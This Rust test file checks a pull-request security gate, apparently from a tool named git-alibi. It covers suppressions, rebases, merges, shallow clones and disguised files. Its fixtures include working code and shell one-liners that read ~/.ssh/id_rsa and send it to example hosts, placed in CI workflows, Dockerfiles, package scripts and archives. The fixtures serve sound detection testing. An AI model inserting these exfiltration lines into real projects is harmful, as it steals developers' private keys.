//! Tests of `gate` on pull requests: clean, malicious, rebased, suppressed, and suppressing their own findings.

#![allow(clippy::unwrap_used)] // test helpers are not marked as tests

mod common;

use common::{alibi, text};
use git_alibi::testkit::{Story, write};
use std::path::Path;
use std::process::Output;
use tempfile::TempDir;

/// Code that sends a private key to a server, which the gate must block.
const THEFT: &str = "const key = fs.readFileSync(os.homedir() + '/.ssh/id_rsa');\\nconst req = https.request({ host: 'collect.example.org', method: 'POST' });\\nreq.end(key);\\n";

/// Similar code, which is in the first commit of the repository.
const OLD: &str = "const old = fs.readFileSync(os.homedir() + '/.ssh/id_ed25519');\\nhttps.request({ host: 'old.example.org', method: 'POST' }).end(old);\\n";

/// Builds a project by Ana whose first commit contains [`OLD`]. `main` contains her later commits on the branch `main`;
/// `steps` contains the commits after them, usually by Ben on the branch `proposal`.
fn project(main: &str, steps: &str) -> TempDir {
    let output = format!(
        "title = 't'\nstory = 's'\nhead = ''\n\
         [people.ana]\nname = 'Ana Example'\nemail = 'ana@example.org'\nzone = 'Europe/Lisbon'\n\
         [people.ben]\nname = 'Ben Example'\nemail = 'ben@example.org'\nzone = 'Europe/Lisbon'\n\
         [[step]]\nby = 'ana'\nat = '2022-01-03 10:00'\nmessage = 'Begin'\nwrite = {{ 'old.js' = \"{OLD}\", 'app.js' = \"start();\\n\" }}\n\
         [[work]]\nby = ['ana']\nfrom = '2022-01-04'\nto = '2023-12-29'\nevery = 7\n\
         {main}\n{steps}"
    );
    let folder = tempfile::tempdir().unwrap();
    write(&Story::parse("project", &output).unwrap(), folder.path()).unwrap();
    folder
}

/// Returns the TOML of a commit by a person on a branch.
fn step(by: &str, branch: &str, day: &str, files: &str) -> String {
    format!(
        "[[step]]\nby = '{by}'\nat = '2024-{day} 10:00'\nbranch = '{branch}'\nmessage = 'Change'\nwrite = {{ {files} }}\n"
    )
}

fn theft(day: &str) -> String {
    step("ben", "proposal", day, &format!("'report.js' = \"{THEFT}\""))
}

fn gate(folder: &Path, words: &[&str]) -> Output {
    let path = folder.to_str().unwrap();
    alibi(&[&["gate", "main..proposal", path, "--color", "never"], words].concat())
}

fn report(folder: &Path) -> serde_json::Value {
    serde_json::from_slice(&gate(folder, &["--format", "json"]).stdout).unwrap()
}

/// Returns the ids of the findings that count.
fn ids(folder: &Path) -> Vec<String> {
    let report = report(folder);
    let findings = report["findings"].as_array().unwrap().iter();
    findings.filter(|f| f["counted_db"].as_f64() > Some(0.0)).map(|f| f["id"].as_str().unwrap().to_owned()).collect()
}

/// Returns an `alibi.toml` that suppresses a finding, escaped for a TOML string.
fn suppression(id: &str, more: &str) -> String {
    format!("[[suppress]]\\nfinding = '{id}'\\nreason = 'Ana asked Ben, and it is a fixture'\\n{more}")
}

#[test]
fn a_clean_pull_request_passes_despite_old_findings() {
    let clean = project("", &step("ben", "proposal", "01-08", "'app.js' = \"start(now());\\n\""));
    let out = gate(clean.path(), &[]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert_eq!(text(&out.stdout), "git-alibi main..proposal: 1 commit checked, nothing to review\n");
    let scan = alibi(&["scan", clean.path().to_str().unwrap(), "--fail-on", "block"]);
    assert_eq!(scan.status.code(), Some(1), "a scan finds the old theft, which the pull request does not add");
    let empty = alibi(&["gate", "main..main", clean.path().to_str().unwrap()]);
    assert_eq!((empty.status.code(), text(&empty.stdout).contains("no commits to check")), (Some(0), true));
}

#[test]
fn a_malicious_pull_request_fails_and_the_report_has_line_reason_and_fix() {
    let bad = project("", &theft("01-08"));
    let out = gate(bad.path(), &[]);
    let output = text(&out.stdout);
    assert_eq!(out.status.code(), Some(1), "{output}");
    for part in ["report.js:1", "Ben Example", "credential-read-egress", "why:", "fix:", "see: git -C", "[[suppress]]"]
    {
        assert!(output.contains(part), "{part} is missing: {output}");
    }
    assert!(!output.contains("old.js"), "the old finding is reported: {output}");
    assert_eq!(gate(bad.path(), &["--fail-on", "never"]).status.code(), Some(0));
    let review = gate(bad.path(), &["--fail-on", "review", "--skip", "content"]);
    assert_eq!(review.status.code(), Some(0), "{}", text(&review.stdout));
}

#[test]
fn a_finding_keeps_its_id_when_rebased_and_shifted() {
    let before = project("", &theft("01-08"));
    let other = step("ana", "main", "01-15", "'app.js' = \"begin();\\n\"");
    let shifted = format!("'report.js' = \"// What we send, and why.\\nlet a = 1;\\nlet b = 2;\\n{THEFT}\"");
    let after = project(&other, &step("ben", "proposal", "02-05", &shifted));
    let (first, second) = (ids(before.path()), ids(after.path()));
    assert_eq!(first, second);
    assert!(first[0].starts_with("credential-read-egress:"), "{first:?}");
    let lines = |folder: &TempDir| report(folder.path())["findings"][0]["line"].clone();
    assert_ne!(lines(&before), lines(&after), "the line has moved");
    let print = |folder: &TempDir| {
        let out = gate(folder.path(), &["--format", "sarif"]);
        let sarif: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
        sarif["runs"][0]["results"][0]["partialFingerprints"].clone()
    };
    assert_eq!(print(&before), print(&after));
}

#[test]
fn suppressions_on_main_are_applied_and_counted() {
    let id = ids(project("", &theft("01-08")).path())[0].clone();
    let excused = |more: &str| {
        let file = step("ana", "main", "01-02", &format!("'alibi.toml' = \"{}\"", suppression(&id, more)));
        project(&file, &theft("01-08"))
    };
    let folder = excused("owner = 'ana'\\n");
    let out = gate(folder.path(), &[]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stdout));
    assert!(text(&out.stdout).contains("(1 suppressed)"), "{}", text(&out.stdout));
    let output = report(folder.path());
    let finding = output["findings"].as_array().unwrap().iter().find(|f| f["id"] == id.as_str()).unwrap();
    assert_eq!(finding["suppressed"]["reason"], "Ana asked Ben, and it is a fixture");
    assert_eq!((&finding["suppressed"]["by"], &finding["counted_db"]), (&"file".into(), &0.0.into()));
    assert_eq!(gate(folder.path(), &["--no-suppressions"]).status.code(), Some(1));
    // The tests run with the date 2025-01-01.
    assert_eq!(gate(excused("expires = 2025-01-01\\n").path(), &[]).status.code(), Some(0), "the last day counts");
    let expired = gate(excused("expires = 2024-12-31\\n").path(), &[]);
    assert_eq!(expired.status.code(), Some(1));
    assert!(text(&expired.stdout).contains("expired after 2024-12-31"), "{}", text(&expired.stdout));
    let disputed = gate(excused("disputed = true\\n").path(), &["--verbose"]);
    assert_eq!(disputed.status.code(), Some(0));
    assert!(text(&disputed.stdout).contains("not counted: disputed"), "{}", text(&disputed.stdout));
    let broken = step("ana", "main", "01-02", "'alibi.toml' = \"[[suppress]]\\nfinding = 'x'\\n\"");
    let out = gate(project(&broken, &theft("01-08")).path(), &[]);
    assert_eq!(out.status.code(), Some(2));
    assert!(text(&out.stderr).contains("alibi.toml:2:11"), "{}", text(&out.stderr));
}

#[test]
fn a_pull_request_cannot_suppress_its_own_findings() {
    let id = ids(project("", &theft("01-08")).path())[0].clone();
    let file = format!("'report.js' = \"{THEFT}\"");
    let ways = [
        ("alibi.toml", format!("'alibi.toml' = \"{}\", {file}", suppression(&id, ""))),
        ("alibi-baseline.toml", format!("'alibi-baseline.toml' = \"reason = 'x'\\nfindings = ['{id}']\\n\", {file}")),
        (".mailmap", format!("'.mailmap' = \"Ana Example <ana@example.org> <ben@example.org>\\n\", {file}")),
        ("CODEOWNERS", format!("'CODEOWNERS' = \"nothing @ben\\n\", {file}")),
        ("report.js", format!("'report.js' = \"// git-alibi: ignore[credential-read-egress] it is fine\\n{THEFT}\"")),
    ];
    for (file, files) in &ways {
        let folder = project("", &step("ben", "proposal", "01-08", files));
        let out = gate(folder.path(), &[]);
        let output = text(&out.stdout);
        assert_eq!(out.status.code(), Some(1), "{file}: {output}");
        assert!(output.contains("by Ben Example"), "{file}: the finding is not attributed to Ben Example: {output}");
        let message =
            if *file == "report.js" { "cannot suppress its own findings" } else { "version before the range" };
        assert!(output.contains(message) && output.contains(file), "{file} is not mentioned: {output}");
    }
    // The suppression and the theft are in separate commits of the pull request.
    let first = step("ben", "proposal", "01-08", &format!("'alibi.toml' = \"{}\"", suppression(&id, "")));
    let out = gate(project("", &format!("{first}{}", theft("01-09"))).path(), &[]);
    assert_eq!(out.status.code(), Some(1), "{}", text(&out.stdout));
}

#[test]
fn an_inline_suppression_does_not_cover_new_code() {
    const COMMENT: &str = "// git-alibi: ignore[credential-read-egress owner=ana] the vault's own client\\n";
    let vault = format!("'report.js' = \"{COMMENT}{OLD}\"");
    let before = step("ana", "main", "01-02", &vault);
    // The line that Ana suppressed stays suppressed, even if the proposal moves it.
    let moved = format!("'report.js' = \"let a;\\n{COMMENT}{OLD}\"");
    let folder = project(&before, &step("ben", "proposal", "01-08", &moved));
    assert_eq!(gate(folder.path(), &[]).status.code(), Some(0));
    // A theft that replaces the line, or that comes with a copy of the comment, is not suppressed.
    for change in [format!("{COMMENT}{THEFT}"), format!("{COMMENT}{OLD}{COMMENT}{THEFT}")] {
        let folder = project(&before, &step("ben", "proposal", "01-08", &format!("'report.js' = \"{change}\"")));
        let out = gate(folder.path(), &[]);
        assert_eq!(out.status.code(), Some(1), "{change}: {}", text(&out.stdout));
        assert!(text(&out.stdout).contains("cannot suppress its own findings"), "{}", text(&out.stdout));
    }
}

#[test]
fn copied_code_is_reported_but_moved_code_is_not() {
    let copy = step("ben", "proposal", "01-08", &format!("'new.js' = \"{OLD}\""));
    let bad = project("", &copy);
    let out = gate(bad.path(), &[]);
    assert_eq!(out.status.code(), Some(1), "{}", text(&out.stdout));
    assert!(text(&out.stdout).contains("new.js:1"), "{}", text(&out.stdout));
    // The copy has a different id, so that a suppression of the old finding does not cover it.
    let scan = alibi(&["scan", bad.path().to_str().unwrap(), "--refs", "heads/main", "--format", "json"]);
    let scan: serde_json::Value = serde_json::from_slice(&scan.stdout).unwrap();
    let old = scan["findings"][0]["id"].as_str().unwrap().to_owned();
    assert!(!ids(bad.path()).contains(&old), "{old}");
    // A moved file is not a copy.
    let moved = format!(
        "[[step]]\nby = 'ben'\nat = '2024-01-08 10:00'\nbranch = 'proposal'\nmessage = 'Move'\nremove = ['old.js']\nwrite = {{ 'lib/old.js' = \"{OLD}\" }}\n"
    );
    let out = gate(project("", &moved).path(), &[]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stdout));
}

/// Creates a merge commit on the branch `proposal`, with these parents and the tree of a revision.
fn merge_of(folder: &Path, parents: &[&str], tree_of: &str) {
    let repository = git2::Repository::open_bare(folder).unwrap();
    let commit = |name: &str| repository.revparse_single(name).unwrap().peel_to_commit().unwrap();
    let parents: Vec<git2::Commit<'_>> = parents.iter().map(|name| commit(name)).collect();
    let who = git2::Signature::new("Ben Example", "ben@example.org", &git2::Time::new(1_705_000_000, 0)).unwrap();
    let parents: Vec<&git2::Commit<'_>> = parents.iter().collect();
    let oid = repository.commit(None, &who, &who, "Merge", &commit(tree_of).tree().unwrap(), &parents).unwrap();
    repository.reference("refs/heads/proposal", oid, true, "").unwrap();
}

#[test]
fn a_merge_that_restores_removed_code_is_reported() {
    let gone = "[[step]]\nby = 'ana'\nat = '2024-01-05 10:00'\nmessage = 'Away'\nremove = ['old.js']\n";
    let folder = project(gone, "");
    merge_of(folder.path(), &["main", "main~1"], "main~1");
    let out = gate(folder.path(), &[]);
    assert_eq!(out.status.code(), Some(1), "{}", text(&out.stdout));
    assert!(text(&out.stdout).contains("old.js"), "{}", text(&out.stdout));
    // The merge takes the file from a branch that was created before its removal.
    let folder = project(gone, "");
    merge_of(folder.path(), &["main~1"], "main~1");
    merge_of(folder.path(), &["main", "proposal"], "proposal");
    let out = gate(folder.path(), &[]);
    assert_eq!(out.status.code(), Some(1), "{}", text(&out.stdout));
    // A merge of main into a clean branch is not reported.
    let folder = project("", &step("ben", "proposal", "01-08", "'b.js' = \"let b;\\n\""));
    merge_of(folder.path(), &["proposal", "main"], "proposal");
    assert_eq!(gate(folder.path(), &[]).status.code(), Some(0));
}

#[test]
fn ambiguous_and_empty_range_names_are_rejected() {
    let bad = project("", &theft("01-08"));
    let path = bad.path().to_str().unwrap();
    let repository = git2::Repository::open_bare(bad.path()).unwrap();
    let tip = repository.refname_to_id("refs/heads/proposal").unwrap();
    let refused = |range: &str| {
        let out = alibi(&["gate", range, path]);
        (out.status.code(), text(&out.stderr))
    };
    // An unset variable in a pipeline produces such ranges.
    for range in ["..proposal", "...proposal"] {
        let (code, message) = refused(range);
        assert!(code == Some(2) && message.contains("no start"), "{range}: {code:?} {message}");
    }
    repository.reference("refs/tags/main", tip, true, "").unwrap();
    let (code, message) = refused("main..proposal");
    assert!(code == Some(2) && message.contains("refs/tags/main or refs/heads/main"), "{code:?} {message}");
    assert_eq!(refused("refs/heads/main..proposal").0, Some(1), "a full name is not ambiguous");
}

#[test]
fn the_gate_refuses_a_repository_nested_in_another() {
    let (inner, outer) = (project("", &theft("01-08")), tempfile::tempdir().unwrap());
    std::fs::create_dir(outer.path().join(".git")).unwrap();
    let sub = outer.path().join("sub");
    std::fs::rename(inner.path(), &sub).unwrap();
    let out = alibi(&["gate", "main..proposal", sub.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(3), "{}", text(&out.stdout));
    assert!(text(&out.stderr).contains("pass the root"), "{}", text(&out.stderr));
}

#[test]
fn believe_reads_suppressions_from_the_given_revision() {
    let id = ids(project("", &theft("01-08")).path())[0].clone();
    // Two pushes to one branch: the first adds a suppression for the finding in the second.
    let excuse = step("ben", "proposal", "01-06", &format!("'alibi.toml' = \"{}\"", suppression(&id, "")));
    let folder = project("", &format!("{excuse}{}", theft("01-08")));
    let path = folder.path().to_str().unwrap();
    let second = |more: &[&str]| alibi(&[&["gate", "proposal~1..proposal", path], more].concat()).status.code();
    assert_eq!(second(&[]), Some(0), "by default, the configuration of the base is used");
    assert_eq!(second(&["--believe", "main"]), Some(1), "--believe uses the configuration of main");
    assert_eq!(second(&["--believe", "nowhere"]), Some(3));
}

#[test]
fn criss_cross_merges_are_checked_for_new_content_only() {
    // Main and the proposal have merged each other, so they have two merge bases.
    let folder = project("", &step("ben", "proposal", "01-08", "'b.js' = \"let b;\\n\""));
    let repository = git2::Repository::open_bare(folder.path()).unwrap();
    let (main, side) = ("refs/heads/main", "refs/heads/proposal");
    let (old_main, old_side) = (repository.refname_to_id(main).unwrap(), repository.refname_to_id(side).unwrap());
    merge_of(folder.path(), &["main", "proposal"], "proposal");
    let merged = repository.refname_to_id(side).unwrap();
    repository.reference(main, merged, true, "").unwrap();
    repository.reference(side, old_side, true, "").unwrap();
    merge_of(folder.path(), &["proposal", &old_main.to_string()], "proposal");
    let out = alibi(&["gate", "main...proposal", folder.path().to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(0), "{}{}", text(&out.stdout), text(&out.stderr));
}

#[test]
fn missing_history_fails_the_gate_with_a_fetch_command() {
    let bad = project("", &theft("01-08"));
    let path = bad.path().to_str().unwrap();
    let refused = |range: &str, more: &[&str]| {
        let out = alibi(&[&["gate", range, path], more].concat());
        (out.status.code().unwrap(), text(&out.stderr), text(&out.stdout))
    };
    let (code, message, _) = refused("origin/main...proposal", &[]);
    assert!(code == 3 && message.contains("git fetch origin main:refs/remotes/origin/main"), "{code} {message}");
    let (code, message, _) = refused("0000000000000000000000000000000000000000..proposal", &[]);
    assert!(code == 3 && message.contains("origin/main...HEAD"), "{code} {message}");
    let (code, message, _) = refused("1234567890123456789012345678901234567890..proposal", &[]);
    assert!(
        code == 3 && message.contains("git fetch origin 1234567890123456789012345678901234567890"),
        "{code} {message}"
    );
    let (code, message, _) = refused("origin/main..proposal", &["--allow-partial"]);
    assert!(code == 0 && message.contains("nothing was checked"), "{code} {message}");
    let (code, _, output) = refused("proposal..0000000000000000000000000000000000000000", &[]);
    assert!(code == 0 && output.contains("nothing to check"), "a deleted branch: {output}");
    let (code, _, output) = refused("4b825dc642cb6eb9a060e54bf8d69288fbee4904..main", &[]);
    assert!(
        code == 1 && output.contains("old.js"),
        "a range from the empty tree does not check every commit: {output}"
    );
    assert_eq!(refused("proposal", &[]).0, 2);
    assert_eq!(refused("main..proposal", &["--time-limit", "0"]).0, 2);
    // A shallow clone, which lacks earlier history.
    let tip = git2::Repository::open_bare(bad.path()).unwrap().refname_to_id("refs/heads/main").unwrap();
    std::fs::write(bad.path().join("shallow"), format!("{tip}\n")).unwrap();
    let clean = project("", &step("ben", "proposal", "01-08", "'app.js' = \"start(now());\\n\""));
    let tip = git2::Repository::open_bare(clean.path()).unwrap().refname_to_id("refs/heads/main").unwrap();
    std::fs::write(clean.path().join("shallow"), format!("{tip}\n")).unwrap();
    let out = gate(clean.path(), &[]);
    assert_eq!(out.status.code(), Some(3), "{}", text(&out.stdout));
    assert!(text(&out.stderr).contains("git fetch --unshallow"), "{}", text(&out.stderr));
    assert_eq!(gate(clean.path(), &["--allow-partial"]).status.code(), Some(0));
    assert_eq!(
        gate(bad.path(), &["--allow-partial"]).status.code(),
        Some(1),
        "the commits that can be read are checked"
    );
}

#[test]
fn unreadable_files_fail_the_gate_only_if_the_range_changes_them() {
    let object_of = |folder: &TempDir, rev: &str| {
        let repo = git2::Repository::open_bare(folder.path()).unwrap();
        let id = repo.revparse_single(rev).unwrap().id().to_string();
        common::object(folder.path(), &id)
    };
    let lost = project("", &step("ben", "proposal", "01-08", "'new.js' = \"let a = 1;\\n\""));
    std::fs::remove_file(object_of(&lost, "proposal:new.js")).unwrap();
    let out = gate(lost.path(), &[]);
    assert_eq!(out.status.code(), Some(3), "{}", text(&out.stdout));
    assert!(text(&out.stderr).contains("missing"), "{}", text(&out.stderr));
    assert!(text(&out.stdout).contains("INCOMPLETE"), "{}", text(&out.stdout));
    let sarif: serde_json::Value = serde_json::from_slice(&gate(lost.path(), &["--format", "sarif"]).stdout).unwrap();
    assert_eq!(sarif["runs"][0]["invocations"][0]["executionSuccessful"], false);
    let old = project("", &step("ben", "proposal", "01-08", "'new.js' = \"let a = 1;\\n\""));
    std::fs::remove_file(object_of(&old, "main:old.js")).unwrap();
    let out = gate(old.path(), &[]);
    assert_eq!(out.status.code(), Some(0), "{}{}", text(&out.stdout), text(&out.stderr));
    // In a partial clone, old files may be missing, but new files may not.
    for (folder, code) in [(&old, 0), (&lost, 3)] {
        std::fs::create_dir_all(folder.path().join("objects/pack")).unwrap();
        std::fs::write(folder.path().join("objects/pack/pack-0.promisor"), "").unwrap();
        let out = gate(folder.path(), &[]);
        assert_eq!(out.status.code(), Some(code), "{}{}", text(&out.stdout), text(&out.stderr));
    }
    assert!(text(&gate(lost.path(), &[]).stderr).contains("git fetch --refetch --no-filter"));
}

#[test]
fn a_force_push_is_checked_for_new_content_only() {
    // The branch was rewritten: only the new commits are checked, not the commits that the push removes.
    let folder = project("", &format!("{}{}", theft("01-08"), step("ben", "again", "01-09", "'b.js' = \"let b;\\n\"")));
    let path = folder.path().to_str().unwrap();
    let clean = alibi(&["gate", "proposal..again", path]);
    assert_eq!(clean.status.code(), Some(0), "{}", text(&clean.stdout));
    let bad = alibi(&["gate", "again..proposal", path]);
    assert_eq!(bad.status.code(), Some(1), "{}", text(&bad.stdout));
}

/// Adds a commit by Ben on the branch `proposal` with these files, each with its mode.
fn propose(folder: &Path, files: &[(&str, Vec<u8>, u32)]) {
    let repo = git2::Repository::open_bare(folder).unwrap();
    let parent = repo.find_reference("refs/heads/main").unwrap().peel_to_commit().unwrap();
    let mut update = git2::build::TreeUpdateBuilder::new();
    for (path, bytes, mode) in files {
        let mode = match mode {
            0o120_000 => git2::FileMode::Link,
            _ => git2::FileMode::Blob,
        };
        update.upsert(*path, repo.blob(bytes).unwrap(), mode);
    }
    let tree = update.create_updated(&repo, &parent.tree().unwrap()).unwrap();
    let when = git2::Time::new(1_704_708_000, 0);
    let ben = git2::Signature::new("Ben Example", "ben@example.org", &when).unwrap();
    let tree = repo.find_tree(tree).unwrap();
    let commit = repo.commit(None, &ben, &ben, "Change", &tree, &[&parent]).unwrap();
    repo.reference("refs/heads/proposal", commit, true, "").unwrap();
}

/// A compressed archive with one file.
fn packed(text: &str, name: &str) -> Vec<u8> {
    use std::io::Write;
    let mut header = [0; 512];
    header[..name.len()].copy_from_slice(name.as_bytes());
    header[100..108].copy_from_slice(b"0000644\0");
    header[124..136].copy_from_slice(format!("{:011o}\0", text.len()).as_bytes());
    header[156] = b'0';
    header[257..263].copy_from_slice(b"ustar\0");
    header[148..156].fill(b' ');
    let sum: u32 = header.iter().map(|b| u32::from(*b)).sum();
    header[148..156].copy_from_slice(format!("{sum:06o}\0 ").as_bytes());
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    encoder.write_all(&header).unwrap();
    encoder.write_all(text.as_bytes()).unwrap();
    encoder.write_all(&vec![0; 1024 + 512 - text.len() % 512]).unwrap();
    encoder.finish().unwrap()
}

#[test]
fn what_was_not_looked_at_fails_the_gate_and_no_disguise_passes_it() {
    const FILE: u32 = 0o100_644;
    let theft = THEFT.replace("\\n", "\n");
    let php = "<?php $k = file_get_contents('/root/.ssh/id_rsa');\n$c = curl_init('https://c.example.org');\ncurl_setopt($c, CURLOPT_POSTFIELDS, $k);\ncurl_exec($c);\n";
    let shell = "cat ~/.ssh/id_rsa | curl --data-binary @- https://collect.example.org";
    let python = "import os, requests\nd = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.post('https://collect.example.org', data=d)\n";
    let match_of_a_rule = "fs.readFileSync(home + '/.ssh/id_rsa');\n";
    let wide: Vec<u8> = theft.chars().flat_map(|c| u32::from(c).to_le_bytes()).collect();
    let encoded: String =
        (0..40_000).map(|n| format!("'aHR0cHM6Ly9leGFtcGxlLm9yZy8{n:08}AAAAAAAAAAAAAAAAAAAA',\n")).collect();
    let cases: Vec<(&str, i32, &str, Vec<u8>)> = vec![
        ("harmless", 0, "src/x.js", b"start(2);\n".to_vec()),
        ("more matches than are kept", 3, "src/x.js", match_of_a_rule.repeat(250_000).into_bytes()),
        ("behind many matches", 1, "src/x.js", format!("{}\n\n{theft}", match_of_a_rule.repeat(12_000)).into_bytes()),
        ("more encoded text than is decoded", 3, "src/x.py", encoded.into_bytes()),
        (
            "a pointer in place of code",
            3,
            "src/x.js",
            format!("version https://git-lfs.github.com/spec/v1\noid sha256:{:064}\nsize 12345\n", 1).into_bytes(),
        ),
        ("a binary head", 1, "src/x.php", [&b"\x89PNG\0\0\xff\xfe".repeat(300)[..], php.as_bytes()].concat()),
        (
            "a binary tail",
            1,
            "run.sh",
            [format!("#!/bin/sh\n{shell}\nexit 0\n").as_bytes(), &[0, 1, 255].repeat(3000)].concat(),
        ),
        ("an archive", 1, "data/x.tar.gz", packed(&theft, "x.js")),
        ("an archive that is not opened", 3, "data/x.7z", b"7z\xbc\xaf\x27\x1c\0\x04".repeat(9)),
        ("UTF-32", 1, "src/x.js", wide),
        ("a script without an extension", 1, "deploy", format!("#!/bin/sh\n{shell}\n").into_bytes()),
        ("a script with another extension", 1, "tool.conf", format!("#!/usr/bin/env python3\n{python}").into_bytes()),
        ("tests that a pipeline runs", 1, "tests/conftest.py", python.into()),
        ("a bundle", 1, "dist/index.js", format!("// DO NOT EDIT\n{theft}").into_bytes()),
        ("vendored code", 1, "vendor/x/x.js", theft.clone().into_bytes()),
        (
            "a workflow",
            1,
            ".github/workflows/a.yml",
            format!("on: push\njobs:\n  a:\n    steps:\n    - run: {shell}\n").into_bytes(),
        ),
        ("a pipeline of lists", 1, ".gitlab-ci.yml", format!("a:\n  script:\n  - {shell}\n").into_bytes()),
        ("a container", 1, "compose.yaml", format!("services:\n  a:\n    command: [sh, -c, '{shell}']\n").into_bytes()),
        ("an image", 1, "Dockerfile", format!("FROM a\nRUN set -e; \\\n  {shell}\n").into_bytes()),
        ("a makefile", 1, "Makefile", format!("all:\n\t@{shell}\n").into_bytes()),
        ("settings", 1, "tox.ini", format!("[testenv]\ncommands =\n  sh -c '{shell}'\n").into_bytes()),
        (
            "a manifest",
            1,
            "package.json",
            format!("{{\"scripts\": {{\"test\": \"{}\"}}}}", shell.replace('c', "\\u0063")).into_bytes(),
        ),
        ("a page", 1, "public/index.php", php.into()),
        (
            "a notebook",
            1,
            "a.ipynb",
            serde_json::json!({"cells": [{"cell_type": "code", "source": [format!("!{shell}\n")]}]})
                .to_string()
                .into_bytes(),
        ),
    ];
    let folder = project("", "");
    for (what, code, path, bytes) in cases {
        propose(folder.path(), &[(path, bytes, FILE)]);
        let out = gate(folder.path(), &[]);
        assert_eq!(out.status.code(), Some(code), "{what}: {}{}", text(&out.stdout), text(&out.stderr));
        assert!(code != 3 || text(&out.stderr).contains(path), "{what}: {}", text(&out.stderr));
    }
    let link = [("data/notes.txt", theft.into_bytes(), FILE), ("src/x.js", b"../data/notes.txt".to_vec(), 0o120_000)];
    propose(folder.path(), &link);
    let out = gate(folder.path(), &[]);
    assert_eq!(out.status.code(), Some(1), "a link: {}", text(&out.stdout));
    assert!(text(&out.stdout).contains("src/x.js"), "{}", text(&out.stdout));
}
